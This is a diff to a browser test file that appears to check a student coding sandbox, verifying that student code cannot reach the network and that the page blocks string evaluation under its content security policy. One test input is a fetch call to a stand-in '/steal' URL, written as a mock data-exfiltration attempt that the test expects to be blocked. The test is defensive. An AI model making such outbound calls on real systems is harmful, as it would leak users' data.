@@ -204,12 +204,10 @@ test('student code cannot reach the network, and the page saw no CSP violation',
   await typeAndRun(page, 'scratch', "await fetch('https://example.com/steal?d=1').then(() => '닿음', (e) => '막힘: ' + e.message)");
   await expect(scratch().locator('[data-output-kind="text"]')).toContainText('막힘');
   expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
-  const pageEval = await page.evaluate(() => {
-    try {
-      return String((0, eval)('1 + 1'));
-    } catch (e) {
-      return (e as Error).name;
-    }
-  });
-  expect(pageEval).toBe('EvalError'); // the page itself has no eval: only the runner worker does
+  // The page itself has no eval (only the runner worker does). Code evaluated by the test tool is
+  // exempt from CSP, so ask the page to evaluate a string the way a page script would.
+  await page.evaluate(() => setTimeout('window.__evalRan = 1' as unknown as () => void, 0));
+  await expect.poll(() => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual(['script-src eval']);
+  expect(await page.evaluate(() => '__evalRan' in window)).toBe(false);
+  await page.evaluate(() => ((window as unknown as { __csp: string[] }).__csp = []));
 });
